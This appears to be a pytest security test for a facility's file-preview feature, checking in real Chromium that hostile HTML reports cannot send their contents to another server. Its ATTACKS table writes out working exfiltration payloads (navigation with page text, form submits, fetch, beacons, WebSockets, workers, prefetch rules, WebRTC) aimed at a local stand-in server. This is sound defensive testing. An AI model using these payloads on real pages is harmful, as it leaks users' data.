"""A hostile report in a real Chromium: whatever it tries, nothing that it shows reaches another server."""

import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
from seqfacility_testkit.chromium import DEBIAN_PACKAGE, find_chromium, open_page, open_tabs
from seqfacility_testkit.live import LiveFacility
from seqfacility_testkit.waiting import wait_until

SECRET = "what-the-report-shows"

ATTACKS = {
    "location": "<script>location = '{at}?' + document.body.innerText</script>",
    "refresh": "<meta http-equiv=refresh content='0;url={at}'>",
    "form": "<form id=f action='{at}'></form><script>f.submit()</script>",
    "link": "<a id=a href='{at}'>x</a><script>a.click()</script>",
    "top": "<a id=a target=_top href='{at}'>x</a><script>a.click()</script>",
    "download": "<a id=a download href='{at}'>x</a><script>a.click()</script>",
    "loads": """
        <img src='{at}/img'><iframe src='{at}/iframe'></iframe><object data='{at}/object'></object>
        <style>@import '{at}/style'; body {{ background: url({at}/background) }}</style>
        <script src='{at}/script'></script>
        <link rel=preload as=image href='{at}/preload'><link rel=icon href='{at}/icon'>""",
    "prefetch": """
        <link rel=prefetch href='{at}/prefetch'><link rel=dns-prefetch href='{at}'>
        <link rel=preconnect href='{at}'>
        <script type=speculationrules>
        {{"prefetch": [{{"urls": ["{at}/rules"], "eagerness": "immediate"}}]}}</script>""",
    "script": """<script>
        fetch('{at}/fetch').catch(() => 0); navigator.sendBeacon('{at}/beacon', 'x');
        new EventSource('{at}/events'); new WebSocket('{at}/socket'.replace('http', 'ws'));
        new Worker(URL.createObjectURL(new Blob(["fetch('{at}/worker')"])));</script>""",
    "window": "<script>open('{at}')</script>",
    "webrtc": """<script>(async () => {{
        const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{udp}'}}]}});
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer()); }})()</script>""",
}
NEEDS_A_PERSON = {"window"}
"""Without a click of a person Chromium opens no window for any page."""
SECONDS_FOR_ATTACKS = 5
VIEWER_AND_FRAME = 2
"""Both have one address; what the browser says of itself decides which it gets."""


class Stranger:
    """A server elsewhere that notes everything that connects to it, or sends it a datagram."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.connections = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.paths.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def setup(self) -> None:
                outer.connections += 1
                super().setup()

            def log_message(self, *_words: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def attacks_heard(self) -> set[str]:
        """Return the attacks that came through so far."""
        with suppress(BlockingIOError):
            self.udp.recv(2048)
            self.paths.append("/webrtc")
        return {attack for attack in ATTACKS for path in self.paths if path.startswith(f"/{attack}")}

    def report(self, attack: str) -> str:
        at = f"http://localhost:{self.server.server_port}/{attack}"
        text = ATTACKS[attack].format(at=at, udp=self.udp.getsockname()[1])
        return f"<!doctype html><meta charset=utf-8><body>{SECRET} {text}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.udp.close()


class SignedInBrowser:
    """Stands between Chromium and the instance and adds the cookie of a session.

    `unprotected` pages, by their path, come from here and have no policy.
    """

    def __init__(self, base: str, cookie: str) -> None:
        self.unprotected: dict[str, str] = {}
        self.fetched: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path in outer.unprotected:
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.end_headers()
                    self.wfile.write(outer.unprotected[self.path].encode())
                    return
                headers = {**dict(self.headers.items()), "Cookie": cookie, "Connection": "close"}
                answer = requests.get(base + self.path, headers=headers, timeout=60)
                self.send_response(answer.status_code)
                for name, value in answer.headers.items():
                    if name not in {"Connection", "Transfer-Encoding", "Content-Length", "Content-Encoding"}:
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(answer.content)))
                self.end_headers()
                self.wfile.write(answer.content)
                outer.fetched.append(self.path)

            def log_message(self, *_words: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.at = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def chromium() -> str:
    binary = find_chromium()
    if binary is None:
        pytest.skip(f"needs the Debian package {DEBIAN_PACKAGE}")
    return binary


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.close()


@pytest.fixture
def browser(live_facility: LiveFacility) -> Iterator[SignedInBrowser]:
    session = live_facility.sign_in().cookies["service_session"]
    proxy = SignedInBrowser(live_facility.base, f"service_session={session}")
    yield proxy
    proxy.close()


@pytest.mark.timeout(600)
def test_no_report_tells_another_server_what_it_shows(
    chromium: str,
    stranger: Stranger,
    browser: SignedInBrowser,
    live_facility: LiveFacility,
    tmp_path: Path,
) -> None:
    for attack in ATTACKS:
        (live_facility.home / "data" / f"{attack}.html").write_text(stranger.report(attack))
    paths = [f"/api/files/preview?path={attack}.html" for attack in ATTACKS]

    with open_tabs(chromium, [browser.at + path for path in paths], tmp_path / "profile"):
        wait_until(
            lambda: all(browser.fetched.count(path) >= VIEWER_AND_FRAME for path in paths),
            "every report was in its frame",
        )
        time.sleep(SECONDS_FOR_ATTACKS)

    assert stranger.attacks_heard() == set()
    assert stranger.connections == 0


@pytest.mark.timeout(600)
def test_without_our_headers_each_of_these_reports_would(
    chromium: str, stranger: Stranger, browser: SignedInBrowser, tmp_path: Path
) -> None:
    browser.unprotected = {f"/open/{attack}": stranger.report(attack) for attack in ATTACKS}

    with open_tabs(chromium, [browser.at + path for path in browser.unprotected], tmp_path / "profile"):
        wait_until(
            lambda: stranger.attacks_heard() >= set(ATTACKS) - NEEDS_A_PERSON, "every attack came through"
        )


@pytest.mark.timeout(600)
def test_a_report_is_shown_and_its_scripts_run(
    chromium: str, browser: SignedInBrowser, live_facility: LiveFacility, tmp_path: Path
) -> None:
    text = "<script>document.title = 'ran'; parent.postMessage(document.title, '*')</script>"
    (live_facility.home / "data" / "report.html").write_text(text)
    outer = """<iframe src="/api/files/preview?path=report.html"></iframe>
        <script>addEventListener('message', (event) => {
            document.body.append(JSON.stringify([event.data, event.origin])) })</script>"""
    browser.unprotected = {"/open": outer}

    # A busy machine may not come to the inner frame within the seconds of one look.
    pages = (open_page(chromium, f"{browser.at}/open", tmp_path / str(look)) for look in range(5))

    assert any(json.dumps(["ran", "null"], separators=(",", ":")) in page for page in pages)
